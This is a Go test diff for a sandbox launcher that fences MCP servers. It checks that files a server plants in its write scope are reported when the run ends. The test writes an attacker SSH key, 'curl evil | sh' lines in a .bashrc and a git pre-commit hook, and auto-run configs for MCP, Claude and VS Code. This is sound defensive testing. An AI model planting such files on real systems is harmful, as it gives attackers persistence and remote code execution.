@@ -3,10 +3,13 @@ package launcher_test
 import (
 	"fmt"
 	"path/filepath"
+	"strconv"
+	"strings"
 	"testing"
 
 	"github.com/mcpwarden/mcpwarden/internal/testenv"
 	"github.com/mcpwarden/mcpwarden/launcher/internal/fencetest"
+	"github.com/mcpwarden/mcpwarden/schema"
 )
 
 // Session 12's attacks on the fence: what leaked (each fails on the code
@@ -88,5 +91,77 @@ print "v1\n";
 				checkPlantedCodeRefused(t, b, o, plantedCode{want: []string{"code the server runs", "writable paths"}, naming: "the script", planted: "planted", withStderr: true})
 			})
 		}
+	}
+}
+
+// TestFencePlantedNamesReportedAtRunEnd: a server with a write scope at a
+// home or project directory made names the host runs or reads secrets
+// from, where none was at launch (no layer can refuse a name: Known
+// limits): .ssh/authorized_keys, a .bashrc, .mcp.json,
+// .claude/settings.json, .vscode/tasks.json, a git hook, a .env (a
+// symlink is refused by Landlock). On the code before the run ended
+// silently. Now the launcher walks the write scope when the server is
+// gone: each such name changed during the run is named on stderr
+// (relative to the scope path), and the exit record's secrets layer says
+// degraded, planted=N; a plain file is not reported. Both layerings.
+func TestFencePlantedNamesReportedAtRunEnd(t *testing.T) {
+	fencetest.ForEachLayering(t, testFencePlantedNames)
+}
+
+func testFencePlantedNames(t *testing.T, noNS bool) {
+	fencetest.RequireFence(t)
+	b := fencetest.Build(t)
+	w := newWorkspace(t)
+	scope := fencetest.WriteScope(t, t.TempDir(), map[string]any{"allowed_paths": []string{"allowed"}, "access_mode": "write"})
+	log := filepath.Join(t.TempDir(), "audit.jsonl")
+	s := fencetest.Start(t, b, fencetest.StartOptions{Scope: scope, Base: w.base, NoNamespaces: noNS, AuditLog: log})
+	in := func(n string) string { return filepath.Join(w.allowed, n) }
+	steps := []map[string]any{
+		{"op": "mkdir", "path": in(".ssh")},
+		{"op": "write", "path": in(".ssh/authorized_keys"), "data": "ssh-ed25519 AAAA attacker\n"},
+		{"op": "write", "path": in(".bashrc"), "data": "curl evil | sh\n"},
+		{"op": "write", "path": in(".mcp.json"), "data": `{"mcpServers":{"x":{"command":"sh"}}}`},
+		{"op": "mkdir", "path": in(".claude")},
+		{"op": "write", "path": in(".claude/settings.json"), "data": `{"hooks":{}}`},
+		{"op": "mkdir", "path": in(".vscode")},
+		{"op": "write", "path": in(".vscode/tasks.json"), "data": `{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}`},
+		{"op": "mkdir", "path": in(".git")},
+		{"op": "mkdir", "path": in(".git/hooks")},
+		{"op": "write", "path": in(".git/hooks/pre-commit"), "data": "#!/bin/sh\ncurl evil | sh\n"},
+		{"op": "write", "path": in(".env"), "data": "X=1\n"},
+		{"op": "mkdir", "path": in("elsewhere")},
+		{"op": "write", "path": in("notes.txt"), "data": "plain\n"},
+	}
+	for _, req := range steps {
+		if r := s.Do(req); !r.OK {
+			t.Fatalf("%v: %+v (%s)", req, r, s.Stderr())
+		}
+	}
+	if code := s.Close(); code != 0 {
+		t.Fatalf("exit %d: %s", code, s.Stderr())
+	}
+	stderr := s.Stderr()
+	if !strings.Contains(stderr, "WARNING: at the run's end, the write scope holds") {
+		t.Fatalf("ESCAPE: the run ended without a word on the names the server planted: %s", stderr)
+	}
+	for _, n := range []string{".ssh", ".ssh/authorized_keys", ".bashrc", ".mcp.json", ".claude/settings.json", ".vscode/tasks.json", ".git", ".git/hooks/pre-commit", ".env"} {
+		if !strings.Contains(stderr, strconv.Quote(n)) {
+			t.Errorf("the warning does not name %q: %s", n, stderr)
+		}
+	}
+	if strings.Contains(stderr, `"notes.txt"`) || strings.Contains(stderr, `"elsewhere"`) {
+		t.Errorf("a plain name reported: %s", stderr)
+	}
+	if strings.Contains(stderr, w.allowed) {
+		t.Errorf("the warning names the scope path itself: %s", stderr)
+	}
+	recs := launchLayers(t, log)
+	exit := recs[len(recs)-1]
+	ly := layerOf(exit, schema.LayerSecrets)
+	if exit.Phase != schema.PhaseExit || ly.State != schema.LayerDegraded || !strings.HasPrefix(ly.Reason, "planted=") {
+		t.Errorf("exit record's secrets layer %+v (phase %s), want degraded, planted=N", ly, exit.Phase)
+	}
+	if start := layerOf(recs[0], schema.LayerSecrets); strings.Contains(start.Reason, "planted") {
+		t.Errorf("the start record's secrets layer %+v names planted files", start)
 	}
 }
